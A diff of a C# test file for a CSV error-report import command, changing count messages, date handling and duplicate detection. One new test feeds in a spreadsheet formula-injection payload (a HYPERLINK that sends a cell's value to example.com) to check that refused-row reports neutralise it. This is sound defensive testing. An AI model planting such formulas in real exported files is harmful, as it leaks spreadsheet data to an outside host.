@@ -20,7 +20,7 @@ public sealed class ImportCommandTests : IDisposable
         (await Run(file)).Should().Be(ImportCommand.Done);
         _kept.Errors.Values.Should().ContainSingle().Which.Should().Be(
             new ImportedError("old reports", "7", "Export failed", "It failed.\nTwice.", new(2026, 10, 1, 14, 30, 0, TimeSpan.Zero), null, null, null));
-        _output.ToString().Should().Contain("1 rows read: 1 new, 0 already there, 0 refused.");
+        _output.ToString().Should().Contain("1 row read: 1 new, 0 already there.");
     }
 
     [Fact]
@@ -49,7 +49,7 @@ public sealed class ImportCommandTests : IDisposable
         _output.ToString().Should().Contain("6 rows read: 1 new, 0 already there, 5 refused.").And.Contain(file.ReportPath);
         var report = File.ReadAllText(file.ReportPath);
         report.Should().Contain("3,refused,The row has no text.,2,,2026-10-01").And.Contain("4,refused,“2026-10-32” is not a date").And.Contain("without it the next import would double it")
-            .And.Contain("The id 1 stands in line 2 already.").And.Contain("4 columns instead of 3");
+            .And.Contain("The id 1 stands in line 2 already, with other cells.").And.Contain("4 columns instead of 3");
 
         File.WriteAllText(file.ReportPath, report.Replace("2026-10-32", "2026-10-31"));
         await new ImportCommand(_output, _problems, true, TimeProvider.System).Run(["import", "errors", file.ReportPath], _ => _kept.Store, default);
@@ -73,8 +73,9 @@ public sealed class ImportCommandTests : IDisposable
         using var file = new CsvFile($"title,story\nLong,{new string('x', 25_000)}\n");
         (await Run(file)).Should().Be(ImportCommand.Done);
         _kept.Errors.Values.Single().Story.Should().HaveLength(20_000).And.EndWith("[Shortened at import; the original has 25,000 characters.]");
-        File.ReadAllText(file.ReportPath).Should().Contain("shortened");
-        _output.ToString().Should().Contain("1 texts were longer");
+        File.Exists(file.ReportPath).Should().BeFalse("none was refused");
+        File.ReadAllText(file.ReportPath.Replace("refused", "shortened")).Should().Contain("shortened");
+        _output.ToString().Should().Contain("1 text was longer").And.NotContain("refused");
     }
 
     [Theory]
@@ -109,7 +110,7 @@ public sealed class ImportCommandTests : IDisposable
     [UnixFact, UnsupportedOSPlatform("windows")]
     public async Task A_folder_that_is_read_only_gets_no_report_it_goes_into_the_current_one()
     {
-        using var file = new CsvFile("title,story\n,\n");
+        using var file = new CsvFile("id,title,story\n1,,\n2,,\n");
         var folder = Path.GetDirectoryName(file.Path)!;
         var here = Path.Combine(Environment.CurrentDirectory, Path.GetFileName(file.ReportPath));
         File.SetUnixFileMode(folder, UnixFileMode.UserRead | UnixFileMode.UserExecute);
@@ -151,7 +152,7 @@ public sealed class ImportCommandTests : IDisposable
         using var file = new CsvFile("id,title\n" + string.Concat(Enumerable.Range(1, 1_000).Select(id => $"{id},Error {id}\n")));
         using var stop = new CancellationTokenSource();
         var command = new ImportCommand(_output, _problems, true, TimeProvider.System);
-        var code = await command.Run(["import", "errors", file.Path], _ => async (batch, _) =>
+        var code = await command.Run(["import", "errors", file.Path, "--created", "today"], _ => async (batch, _) =>
         {
             if (_kept.Batches.Count == 2)
                 stop.Cancel();
@@ -188,6 +189,7 @@ public sealed class ImportCommandTests : IDisposable
     [InlineData("title\nOne\n", "title=Titel", "There is no column “Titel”")]
     [InlineData("", null, "empty")]
     [InlineData("title,created\nOne,03/04/2026\n", null, "--dates dmy or --dates mdy")]
+    [InlineData("PK\u0003\u0004workbook", null, "a workbook of a spreadsheet program")]
     [InlineData("title,created\nOne,13/04/2026\nTwo,04/13/2026\n", null, "line 2")]
     [InlineData("title,created\nOne,soon\n", null, "“soon” in line 2")]
     public async Task What_stands_in_the_way_is_said_before_anything_is_kept(string text, string? map, string hint)
@@ -196,6 +198,53 @@ public sealed class ImportCommandTests : IDisposable
         (await (map is null ? Run(file) : Run(file, "--map", map))).Should().Be(ImportCommand.Impossible);
         _problems.ToString().Should().Contain(hint);
         _kept.Errors.Should().BeEmpty();
+    }
+
+    [Theory]
+    [InlineData("Bug ID,Summary,Changed\n1001,Crash,2024-03-05 09:12\n", "Days stand in “Changed”: please say --map created=\"Changed\"")]
+    [InlineData("id,title\n1,Crash\n", "--map created=COLUMN, or say --created today")]
+    public async Task A_file_without_the_day_of_reporting_is_asked_about(string text, string hint)
+    {
+        using var file = new CsvFile(text);
+        (await Ask(file)).Should().Be(ImportCommand.Impossible);
+        _problems.ToString().Should().Contain(hint);
+        _kept.Errors.Should().BeEmpty();
+
+        (await Ask(file, "--created", "2026-03-15")).Should().Be(ImportCommand.Done);
+        _kept.Errors.Values.Single().Created.Should().Be(new DateTimeOffset(2026, 3, 15, 0, 0, 0, TimeSpan.Zero));
+        _output.ToString().Should().Contain("Days (created): 2026-03-15 for all rows.");
+    }
+
+    [Fact]
+    public async Task What_is_read_is_told_before_with_encoding_columns_and_the_range_of_days()
+    {
+        using var file = new CsvFile("Bug ID;Summary;Opened\n1;Größe;03/15/2026\n2;Two;04/01/2026\n3;Three;\n");
+        (await Ask(file)).Should().Be(ImportCommand.Done);
+        _output.ToString().Should().StartWith("Old Reports.csv: UTF-8, separated by semicolons.").And.Contain("id = Bug ID, title = Summary, created = Opened")
+            .And.Contain("Days (created): 2026-03-15 to 2026-04-01. “03/15/2026” is read as 15 March 2026 00:00 UTC.").And.Contain("1 row has no day of reporting");
+    }
+
+    [Fact]
+    public async Task Rows_are_the_same_where_every_cell_is()
+    {
+        using var file = new CsvFile("title,created,state\nCrash,2026-03-15,NEW\nCrash,2026-03-15,OPEN\nCrash,2026-03-15,NEW\n");
+        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
+        _kept.Errors.Should().HaveCount(2);
+        File.ReadAllText(file.ReportPath).Should().Contain("The same row stands in line 2 already.");
+    }
+
+    [Fact]
+    public async Task A_list_of_refused_rows_holds_no_formula_and_is_read_back_as_it_was()
+    {
+        using var file = new CsvFile("id,title,created\n1,\"=HYPERLINK(\"\"http://example.com/?x=\"\"&A1)\",soon\n2,-5 degrees,soon\n3,@here,2026-03-32\n4,fine,2026-03-15\n5,fine,2026-03-16\n6,fine,2026-03-17\n7,fine,2026-03-18\n");
+        (await Run(file)).Should().Be(ImportCommand.SomeRefused);
+        var report = File.ReadAllText(file.ReportPath);
+        report.Should().Contain("\"'=HYPERLINK(").And.Contain(",'-5 degrees,").And.Contain(",'@here,");
+
+        File.WriteAllText(file.ReportPath, report.Replace("soon", "2026-03-15").Replace("2026-03-32", "2026-03-31"));
+        await new ImportCommand(_output, _problems, true, new FakeTimeProvider(Now)).Run(["import", "errors", file.ReportPath], _ => _kept.Store, default);
+        _kept.Errors[("old reports", "1")].Title.Should().StartWith("=HYPERLINK");
+        _kept.Errors[("old reports", "2")].Title.Should().Be("-5 degrees");
     }
 
     [Fact]
@@ -207,7 +256,7 @@ public sealed class ImportCommandTests : IDisposable
         _output.ToString().Should().NotContain("\r[");
 
         using var screen = new StringWriter();
-        await new ImportCommand(screen, _problems, redirected: false, TimeProvider.System).Run(["import", "errors", file.Path], _ => _kept.Store, default);
+        await new ImportCommand(screen, _problems, redirected: false, TimeProvider.System).Run(["import", "errors", file.Path, "--created", "today"], _ => _kept.Store, default);
         screen.ToString().Should().Contain("\r[" + new string('#', 30) + "] 100 %, 500 rows");
     }
 
@@ -234,7 +283,7 @@ public sealed class ImportCommandTests : IDisposable
     public async Task Real_safety_narratives_go_in_with_their_dates_and_titles()
     {
         var (code, errors) = await RunShared("safenet/safenet_2005.csv");
-        code.Should().Be(ImportCommand.SomeRefused, "two have no narrative");
+        code.Should().Be(ImportCommand.Done, "its two blank rows are no rows");
         errors.Should().HaveCount(184);
         var ride = errors.Single(error => error.ExternalId == "24775");
         ride.Title.Should().StartWith("On Monday the 12th of December, 2005 I was driving");
@@ -249,7 +298,10 @@ public sealed class ImportCommandTests : IDisposable
         _problems.Dispose();
     }
 
-    private Task<int> Run(CsvFile file, params string[] options) =>
+    /// <summary>Imports; a file without a day of reporting as reported today.</summary>
+    private Task<int> Run(CsvFile file, params string[] options) => Ask(file, File.ReadLines(file.Path).FirstOrDefault("created").Contains("created", StringComparison.OrdinalIgnoreCase) || Array.Exists(options, option => option.Contains("created", StringComparison.Ordinal)) ? options : [.. options, "--created", "today"]);
+
+    private Task<int> Ask(CsvFile file, params string[] options) =>
         new ImportCommand(_output, _problems, redirected: true, new FakeTimeProvider(Now)).Run(["import", "errors", file.Path, .. options], _ => _kept.Store, default);
 
     private async Task<(int Code, IReadOnlyCollection<ImportedError> Errors)> RunShared(string name)
